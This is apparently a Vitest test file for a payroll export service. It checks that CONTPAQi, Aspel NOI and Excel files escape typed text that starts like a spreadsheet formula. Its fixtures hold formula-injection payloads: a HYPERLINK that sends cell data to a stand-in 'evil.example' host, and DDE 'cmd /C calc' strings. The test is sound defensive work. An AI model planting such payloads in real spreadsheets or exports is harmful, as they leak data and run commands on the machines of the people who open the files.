import readXlsxFile from 'read-excel-file/node';
import { afterEach, describe, expect, it } from 'vitest';
import { trackedTestServers, type TestServer } from '../../test-support/testServer.js';
import { zipEntries } from '../../test-support/zipEntries.js';
import { movableClock } from '../../test-support/movableClock.js';
import { hire, incidencia } from '../../test-support/prenominaApi.js';
import { HANDOFF_WEEK } from '../../test-support/handoffWeek.js';

// Issue 26 item 7: text a person typed (a gerente can name an employee '=HYPERLINK(...)') must never run as a
// formula when the payroll clerk opens a payroll file in Excel or LibreOffice.
const start = trackedTestServers(afterEach);
const RANGE = `desde=${HANDOFF_WEEK[0]}&hasta=${HANDOFF_WEEK[1]}`;
/** As stored: names are kept in uppercase. */
const HYPERLINK = '=HYPERLINK("HTTP://EVIL.EXAMPLE/?X="&A1;"VER")';
/** How a spreadsheet tells a formula: a cell starting with one of these. */
const FORMULA_START = /^[=+\-@\t\r]/;

async function created(server: TestServer, path: string, body: unknown) {
  const response = await server.request('POST', path, body);
  expect({ path, status: response.status, body: response.body }).toMatchObject({ status: 201 });
  return response.body;
}

/**
 * A week whose every typed text starts like a formula: the branch '@NORTE', the position '+CAJERO', the bono
 * '=PUNTUALIDAD', the holiday, the employees' names and números, the motivos of the manual punches and the notes.
 */
async function hostileWeek() {
  const server = await start({ clock: movableClock() });
  const puesto = await created(server, '/api/puestos', { nombre: '+Cajero', salarioDiario: 315.5 });
  const sucursal = await created(server, '/api/sucursales', { nombre: '@Norte' });
  const bono = await created(server, '/api/bonos', { nombre: '=Puntualidad', monto: 200, tipo: 'fijo' });
  await created(server, '/api/festivos', { fecha: '2026-03-12', nombre: '=Aniversario()' });
  const company = { sucursalId: sucursal.id, puestoId: puesto.id, bonos: { '=PUNTUALIDAD': bono.id } };
  const staff = { sucursal: '@NORTE', puesto: '+CAJERO' };
  const hyper = await hire(server, company, { ...staff, nombre: HYPERLINK.toLowerCase(), numeroEmpleado: '-A1', bonoNombre: '=PUNTUALIDAD' });
  const juan = await hire(server, company, { ...staff, nombre: '+52 Juan', numeroEmpleado: '-5' });
  await hire(server, company, { ...staff, nombre: '-Ana', numeroEmpleado: '007' }); // absent all week: faltas

  const manual = (empleadoId: number, hora: string) => created(server, '/api/attendance/manual', { empleadoId, hora, motivo: `=cmd|' /C calc'!A0 ${hora}` });
  for (const [fecha, entrada, salida] of [
    ['2026-03-09', '09:18', '18:00'],
    ['2026-03-12', '09:00', '18:00'],
    ['2026-03-13', '09:00', '20:00'],
  ] as const) {
    await manual(hyper, `${fecha}T${entrada}`);
    await manual(hyper, `${fecha}T${salida}`);
  }
  await incidencia(server, { empleadoId: hyper, fecha: '2026-03-13', tipo: 'horas_extra', horas: 2, nota: '=1+1' });
  await incidencia(server, { empleadoId: juan, fecha: '2026-03-10', tipo: 'falta_justificada', nota: '@SUM(1+1)*cmd|" /C calc"!A0' });
  return server;
}

/** The cells of one line of a delimited file, quotes (RFC 4180) removed. */
function cellsOf(line: string, separator: string): string[] {
  const cells: string[] = [];
  let cell = '';
  let quoted = false;
  for (let i = 0; i < line.length; i++) {
    const c = line[i]!;
    if (quoted && c === '"' && line[i + 1] === '"') {
      cell += '"';
      i++;
    } else if (c === '"' && (quoted || cell === '')) quoted = !quoted;
    else if (c === separator && !quoted) {
      cells.push(cell);
      cell = '';
    } else cell += c;
  }
  return [...cells, cell];
}

async function downloadRows(server: TestServer, perfil: string | number, separator: string) {
  const response = await server.request('GET', `/api/prenomina/incidencias?${RANGE}&perfil=${perfil}`);
  expect(response.status, response.text).toBe(200);
  const encoding = /charset=windows-1252/.test(response.headers.get('content-type') ?? '') ? 'windows-1252' : 'utf-8';
  const text = new TextDecoder(encoding).decode(response.bytes);
  return text
    .split('\r\n')
    .filter((l) => l !== '')
    .map((l) => cellsOf(l, separator));
}

const formulas = (rows: string[][]) => rows.flat().filter((c) => FORMULA_START.test(c));

/** A copy of the CONTPAQi preset whose every typed text (titles, units, codes, concept numbers) starts like a formula. */
async function hostileProfile(server: TestServer, separador: string, nombre: string) {
  const { presets } = (await server.request('GET', '/api/exportacion/perfiles')).body;
  const base = presets[0].perfil;
  return {
    ...base,
    nombre,
    separador,
    codificacion: 'utf-8',
    formatoFecha: 'dd-mm-aaaa',
    columnas: [
      { titulo: '=CLAVE', campo: 'numeroEmpleado' },
      { titulo: '@NOMBRE', campo: 'nombre' },
      { titulo: '+SUCURSAL', campo: 'sucursal' },
      { titulo: '-FECHA', campo: 'fecha' },
      { titulo: 'CODIGO', campo: 'tipo' },
      { titulo: 'DESCRIPCION', campo: 'descripcion' },
      { titulo: 'CANTIDAD', campo: 'cantidad' },
      { titulo: 'UNIDAD', campo: 'unidad' },
      { titulo: 'CONCEPTO', campo: 'concepto' },
      { titulo: 'IMPORTE', campo: 'importe' },
      { titulo: 'DESDE', campo: 'periodoDesde' },
    ],
    unidades: { dias: '=D', horas: '@H' },
    codigos: {
      ...base.codigos,
      falta: { codigo: '-FINJ', concepto: '-10' },
      retardo: { codigo: '-RETA', concepto: '' },
      'bono:=PUNTUALIDAD': { codigo: '-BON1', concepto: '-20' },
    },
  };
}

describe('payroll files never carry a live formula (issue 26 item 7)', () => {
  it('the CONTPAQi .csv writes names, números and branches that start like a formula as text, with a leading apostrophe', async () => {
    const server = await hostileWeek();
    const rows = await downloadRows(server, 'contpaqi', ',');
    expect(rows[0]).toEqual(['CODIGO', 'NOMBRE', 'FECHA', 'INCIDENCIA', 'VALOR', 'UNIDAD', 'CONCEPTO', 'IMPORTE']);
    expect(formulas(rows)).toEqual([]);
    expect(rows).toContainEqual([`'-A1`, `'${HYPERLINK}`, '15/03/2026', 'BON1', '', '', '', '200.00']);
    expect(rows).toContainEqual([`'-5`, `'+52 JUAN`, '10/03/2026', 'FJUS', '1', 'DIAS', '', '']);
    expect(rows).toContainEqual(['007', `'-ANA`, '09/03/2026', 'FINJ', '1', 'DIAS', '', '']);
    // The figures the box writes stay numbers: hours and amounts are never prefixed.
    const retardo = rows.find((r) => r[0] === `'-A1` && r[3] === 'RETA')!;
    expect(retardo[4]).toMatch(/^\d+\.\d+$/);
  });

  it('the Aspel NOI file (pipe separated) does the same', async () => {
    const server = await hostileWeek();
    const rows = await downloadRows(server, 'noi', '|');
    expect(formulas(rows)).toEqual([]);
    expect(rows).toContainEqual([`'-A1`, '', 'B1', 'Bono =PUNTUALIDAD', '', '', '200.00', '15/03/2026']);
    expect(rows).toContainEqual([`'-5`, '', 'FJ', 'Falta justificada', 'D', '1', '', '10/03/2026']);
  });

  it.each([
    ['comma', ','],
    ['tab', '\t'],
    ['pipe', '|'],
  ])('a saved profile separated by %s neutralises titles, units, codes and concept numbers too, and so does its preview', async (label, separador) => {
    const server = await hostileWeek();
    const perfil = await hostileProfile(server, separador, `=Perfil ${label}`);
    const saved = await created(server, '/api/exportacion/perfiles', perfil);
    const rows = await downloadRows(server, saved.id, separador);
    expect(formulas(rows)).toEqual([]);
    expect(rows[0]).toEqual([`'=CLAVE`, `'@NOMBRE`, `'+SUCURSAL`, `'-FECHA`, 'CODIGO', 'DESCRIPCION', 'CANTIDAD', 'UNIDAD', 'CONCEPTO', 'IMPORTE', 'DESDE']);
    expect(rows).toContainEqual([`'-A1`, `'${HYPERLINK}`, `'@NORTE`, '15-03-2026', `'-BON1`, 'Bono =PUNTUALIDAD', '', '', `'-20`, '200.00', '09-03-2026']);
    expect(rows).toContainEqual(['007', `'-ANA`, `'@NORTE`, '09-03-2026', `'-FINJ`, 'Falta injustificada', '1', `'=D`, `'-10`, '', '09-03-2026']);
    const retardo = rows.find((r) => r[4] === `'-RETA`)!;
    expect(retardo.slice(6, 8)).toEqual([expect.stringMatching(/^\d+(\.\d+)?$/), `'@H`]);

    const preview = await server.request('POST', '/api/exportacion/vista-previa', { desde: HANDOFF_WEEK[0], hasta: HANDOFF_WEEK[1], perfil });
    expect(preview.status, preview.text).toBe(200);
    expect(formulas(preview.body.lineas.map((l: string) => cellsOf(l, separador)))).toEqual([]);
  });

  it('the Excel workbook keeps those texts as text cells: read back as written, and no formula anywhere in its XML', async () => {
    const server = await hostileWeek();
    const response = await server.request('GET', `/api/prenomina?${RANGE}&formato=xlsx`);
    expect(response.status, response.text).toBe(200);
    const [prenomina, asistencia, , incidencias] = (await readXlsxFile(response.bytes)).map((s) => s.data); // 'Turnos' is the third
    expect(prenomina!.find((r) => r[0] === '-A1')!.slice(0, 4)).toEqual(['-A1', HYPERLINK, '@NORTE', '+CAJERO']);
    expect(asistencia!.find((r) => r[0] === '-5')!.slice(0, 2)).toEqual(['-5', '+52 JUAN']);
    expect(incidencias!.find((r) => r.includes('Bono =PUNTUALIDAD'))).toEqual(expect.arrayContaining(['-A1', HYPERLINK, '@NORTE', 'Bono =PUNTUALIDAD', 200]));

    const parts = zipEntries(response.bytes);
    const sheets = [...parts].filter(([name]) => /^xl\/worksheets\/sheet\d+\.xml$/.test(name));
    expect(sheets).toHaveLength(5); // with 'Turnos' (issue 41) and 'Registro', the record chain's head
    for (const [name, xml] of sheets) expect({ name, formula: /<f[\s>/]/.test(xml.toString('utf8')) }).toEqual({ name, formula: false });
    expect(parts.get('xl/sharedStrings.xml')!.toString('utf8')).toContain('<t>=HYPERLINK("HTTP://EVIL.EXAMPLE/?X="&amp;A1;"VER")</t>');
  });
});
